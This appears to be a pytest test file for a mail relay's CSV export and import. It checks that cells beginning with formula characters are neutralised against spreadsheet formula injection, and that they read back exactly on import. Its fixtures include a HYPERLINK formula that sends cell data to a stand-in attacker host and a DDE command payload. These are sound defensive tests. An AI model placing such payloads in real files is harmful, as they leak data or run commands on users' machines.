"""CSV exports are opened in spreadsheets: no exported cell may start a formula, and import reads back
exactly what export wrote (OWASP "CSV Injection": cells starting with = + - @ tab CR get a leading ')."""

from __future__ import annotations

import csv
import io
import subprocess
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from relayd.cli.consent import export_consents, import_consents
from relayd.store import Reason, Scope, SqliteStore, Store, SuppressionEntry
from relayd.store.csvio import export_csv, import_csv
from relayd.store.models import ConsentRecord
from tests.harness import RELAYD, Relayd

T0 = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: valid addresses (=, +, -, ' are atext, RFC 5322 §3.2.3) that a spreadsheet would read as formulas
ADDRESSES = [
    "=1+2@example.test",
    "+1-1@example.test",
    "-2+3@example.test",
    "'=4@example.test",  # already starts with a quote: must survive the round trip too
    "''-5@example.test",
    "'plain@example.test",
    "plain@example.test",
]


@pytest.fixture
async def store(tmp_path: Path) -> AsyncIterator[Store]:
    s = SqliteStore(tmp_path / "relayd.db")
    await s.open()
    try:
        yield s
    finally:
        await s.close()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)


async def test_suppression_export_starts_no_cell_with_a_formula_and_imports_back_exactly(
    store: Store, tmp_path: Path
) -> None:
    entries = [
        SuppressionEntry(a, Scope.GLOBAL, None, None, Reason.MANUAL, f"@SUM(1+{i})", T0)
        for i, a in enumerate(ADDRESSES)
    ]
    await store.add(entries)
    buf = io.StringIO(newline="")
    assert await export_csv(store, buf, include_source=True) == len(ADDRESSES)
    rows = cells(buf.getvalue())
    assert_no_formula(rows)
    exported = {row[0] for row in rows[1:]}
    assert "'=1+2@example.test" in exported and "'-2+3@example.test" in exported
    assert "plain@example.test" in exported and "'plain@example.test" in exported

    path = tmp_path / "export.csv"
    path.write_text(buf.getvalue(), encoding="utf-8", newline="")
    other = SqliteStore(tmp_path / "other.db")
    await other.open()
    try:
        result = await import_csv(other, path, now=T0)
        assert result.errors == [] and result.imported == len(ADDRESSES)
        back = sorted([e async for batch in other.scan() for e in batch], key=lambda e: e.address)
    finally:
        await other.close()
    assert back == sorted(entries, key=lambda e: e.address)


async def test_consent_export_starts_no_cell_with_a_formula_and_imports_back_exactly(
    store: Store, tmp_path: Path
) -> None:
    records = [
        ConsentRecord(
            account="acme",
            list="news",
            address=a,
            confirmed_at=T0,
            ip="192.0.2.7",
            user_agent='=HYPERLINK("https://evil.example/?"&A1,"click")',  # a browser sends what it likes
            source="-cmd|' /C calc'!A0",
            evidence="{}",
        )
        for a in ADDRESSES
    ]
    await store.add_consent(records)
    buf = io.StringIO(newline="")
    assert await export_consents(store, buf) == len(ADDRESSES)
    rows = cells(buf.getvalue())
    assert_no_formula(rows)
    assert rows[1][5].startswith("'=HYPERLINK(")

    path = tmp_path / "consents.csv"
    path.write_text(buf.getvalue(), encoding="utf-8", newline="")
    other = SqliteStore(tmp_path / "other.db")
    await other.open()
    try:
        result = await import_consents(other, path, now=T0)
        assert result.errors == [] and result.imported == len(ADDRESSES)
        back = [r async for batch in other.consents() for r in batch]
    finally:
        await other.close()
    assert sorted(back, key=lambda r: r.address) == sorted(records, key=lambda r: r.address)


def test_relayd_suppress_export_starts_no_cell_with_a_formula(tmp_path: Path) -> None:
    relayd = Relayd(tmp_path, routes={"example.test": 9})  # the command line needs the config, not the daemon
    add = [
        *RELAYD,
        "suppress",
        "add",
        "--config",
        str(relayd.config),
        "--scope",
        "global",
        "--reason",
        "manual",
    ]
    added = subprocess.run([*add, "--", *ADDRESSES[:3]], capture_output=True, text=True, timeout=60)
    assert added.returncode == 0, added.stderr
    out = relayd.cli("suppress", "export")
    assert out.returncode == 0, out.stderr
    rows = cells(out.stdout)
    assert_no_formula(rows)
    assert sorted(row[0] for row in rows[1:]) == [
        "'+1-1@example.test",
        "'-2+3@example.test",
        "'=1+2@example.test",
    ]


def test_tab_and_carriage_return_cells_are_neutralised_too() -> None:
    from relayd.store.csvio import neutralize, restore

    for cell in ["\t=1+1", "\r=1+1", "=1", "+1", "-1", "@A1", "'=1", "''+1"]:
        out = neutralize(cell)
        assert out.startswith("'") and restore(out) == cell
    for cell in ["plain", "'plain", "", "1-2", "a=b"]:
        assert neutralize(cell) == cell == restore(cell)
